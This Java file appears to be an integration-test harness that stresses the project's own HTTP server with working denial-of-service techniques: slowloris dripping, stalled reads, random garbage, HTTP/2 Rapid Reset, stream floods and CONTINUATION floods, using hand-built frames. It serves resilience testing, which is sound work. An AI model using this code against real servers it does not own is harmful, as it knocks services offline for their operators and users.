package dev.perdure.it;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.util.Collection;
import java.util.Random;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.CountDownLatch;
import org.jspecify.annotations.Nullable;

/**
 * Many connections that misbehave in one way, from virtual threads, until it is closed. A
 * connection that the server ends is not opened again unless the way says so.
 */
final class Attack implements AutoCloseable {
  /** What one connection does until it is closed or cut. */
  @FunctionalInterface
  interface Way {
    void go(Attack attack, int number) throws IOException, InterruptedException;
  }

  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int CONTINUATION = 9;

  private final URI server;
  private final Collection<Socket> sockets = new ConcurrentLinkedQueue<>();
  private final CountDownLatch begun;
  private volatile boolean over;

  private Attack(URI server, int connections) {
    this.server = server;
    this.begun = new CountDownLatch(connections);
  }

  /** Begins, and returns when every connection is there. */
  static Attack begin(String url, int connections, Way way) throws InterruptedException {
    Attack attack = new Attack(URI.create(url), connections);
    for (int i = 0; i < connections; i++) {
      int number = i;
      Thread.ofVirtual().start(() -> attack.run(way, number));
    }
    attack.begun.await();
    return attack;
  }

  private void run(Way way, int number) {
    try {
      way.go(this, number);
    } catch (IOException e) {
      // Cut off: what an attacker has to expect.
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    } finally {
      begun.countDown();
    }
  }

  boolean over() {
    return over;
  }

  /** A new connection with a small buffer for what comes. */
  Socket connect() throws IOException {
    Socket socket = new Socket();
    socket.setReceiveBufferSize(4096);
    socket.setTcpNoDelay(true);
    socket.connect(new InetSocketAddress(server.getHost(), server.getPort()), 10_000);
    sockets.add(socket);
    begun.countDown();
    return socket;
  }

  String head(String method, String path, String key) {
    return method
        + " "
        + path
        + " HTTP/1.1\r\nHost: "
        + server.getAuthority()
        + "\r\nAuthorization: Bearer "
        + key
        + "\r\n";
  }

  @Override
  public void close() {
    over = true;
    for (Socket socket : sockets) {
      try {
        socket.close();
      } catch (IOException e) {
        // Gone already.
      }
    }
  }

  // The ways.

  /** Opens a connection and says nothing. */
  static void silence(Attack attack, int number) throws IOException {
    readToEnd(attack.connect());
  }

  /** Asks for something long and does not read it. */
  static Way stall(String path, String key) {
    return (attack, number) ->
        attack
            .connect()
            .getOutputStream()
            .write((attack.head("GET", path, key) + "\r\n").getBytes(US_ASCII));
  }

  /** Sends a beginning, and then one byte after the other; again and again. */
  static Way drip(String beginning) {
    return (attack, number) -> {
      while (!attack.over) {
        try (Socket socket = attack.connect()) {
          OutputStream out = socket.getOutputStream();
          out.write(beginning.getBytes(US_ASCII));
          while (!attack.over) {
            out.write('x');
            Thread.sleep(100);
          }
        } catch (IOException e) {
          Thread.sleep(50);
        }
      }
    };
  }

  /** Random bytes, and requests behind each other with random bytes between them. */
  static void garbage(Attack attack, int number) throws IOException, InterruptedException {
    Random random = new Random(number);
    while (!attack.over) {
      try (Socket socket = attack.connect()) {
        byte[] bytes = new byte[random.nextInt(1, 4000)];
        random.nextBytes(bytes);
        OutputStream out = socket.getOutputStream();
        if (number % 2 == 0) {
          out.write((attack.head("GET", "/livez", "x") + "\r\n").repeat(20).getBytes(US_ASCII));
        }
        out.write(bytes);
        out.flush();
        socket.shutdownOutput();
        readToEnd(socket);
      } catch (IOException e) {
        // Cut off; again.
      }
      // Not a flood of packets, which is for the network to stop.
      Thread.sleep(20);
    }
  }

  /** Asks over HTTP/2 as fast as it can, and takes each request back at once. */
  static void rapidReset(Attack attack, int number) throws IOException, InterruptedException {
    http2(
        attack,
        (out, stream) -> {
          out.writeBytes(frame(HEADERS, 5, stream, attack.hpack("/v1/sessions")));
          out.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
        });
  }

  /** Asks over HTTP/2 as fast as it can and does not look at the answers. */
  static void streamFlood(Attack attack, int number) throws IOException, InterruptedException {
    http2(
        attack,
        (out, stream) -> out.writeBytes(frame(HEADERS, 5, stream, attack.hpack("/readyz"))));
  }

  /** Begins headers that never end, of frames that hold nothing. */
  static void continuationFlood(Attack attack, int number)
      throws IOException, InterruptedException {
    http2(
        attack,
        (out, stream) -> {
          if (stream == 1) {
            out.writeBytes(frame(HEADERS, 0, 1, attack.hpack("/livez")));
          }
          out.writeBytes(frame(CONTINUATION, 0, 1, new byte[0]));
        });
  }

  private interface Burst {
    void add(ByteArrayOutputStream out, int stream);
  }

  private static void http2(Attack attack, Burst burst) throws IOException, InterruptedException {
    while (!attack.over) {
      try (Socket socket = attack.connect()) {
        Thread.ofVirtual().start(() -> readQuietly(socket));
        OutputStream out = socket.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
        out.write(frame(SETTINGS, 0, 0, new byte[0]));
        for (int stream = 1; !attack.over && stream < 1_000_000; ) {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 50; i++, stream += 2) {
            burst.add(bytes, stream);
          }
          out.write(bytes.toByteArray());
        }
      } catch (IOException e) {
        Thread.sleep(20);
      }
    }
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] frame = new byte[9 + payload.length];
    frame[1] = (byte) (payload.length >> 8);
    frame[2] = (byte) payload.length;
    frame[3] = (byte) type;
    frame[4] = (byte) flags;
    frame[5] = (byte) (stream >> 24);
    frame[6] = (byte) (stream >> 16);
    frame[7] = (byte) (stream >> 8);
    frame[8] = (byte) stream;
    System.arraycopy(payload, 0, frame, 9, payload.length);
    return frame;
  }

  /** GET over http, with literals that are not indexed (RFC 7541). */
  private byte[] hpack(String path) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {(byte) 0x82, (byte) 0x86});
    literal(out, 4, path);
    literal(out, 1, server.getAuthority());
    return out.toByteArray();
  }

  private static void literal(ByteArrayOutputStream out, int name, String value) {
    out.write(name);
    out.write(value.length());
    out.writeBytes(value.getBytes(US_ASCII));
  }

  private static void readQuietly(Socket socket) {
    try {
      readToEnd(socket);
    } catch (IOException e) {
      // Cut off.
    }
  }

  private static void readToEnd(Socket socket) throws IOException {
    InputStream in = socket.getInputStream();
    byte[] buffer = new byte[4096];
    while (in.read(buffer) >= 0) {
      // Nobody is interested.
    }
  }

  /** Sends one request and returns the status of its answer; null if it was cut off without one. */
  static @Nullable Integer status(String url, byte[]... parts) throws IOException {
    URI server = URI.create(url);
    try (Socket socket = new Socket(server.getHost(), server.getPort())) {
      socket.setSoTimeout(60_000);
      OutputStream out = socket.getOutputStream();
      Thread writer =
          Thread.ofVirtual()
              .start(() -> {
                try {
                  for (byte[] part : parts) {
                    out.write(part);
                  }
                } catch (IOException e) {
                  // The answer came first.
                }
              });
      String line = new String(socket.getInputStream().readNBytes(12), US_ASCII);
      writer.interrupt();
      return line.startsWith("HTTP/1.1 ") ? Integer.valueOf(line.substring(9, 12)) : null;
    } catch (SocketException e) {
      return null;
    }
  }
}
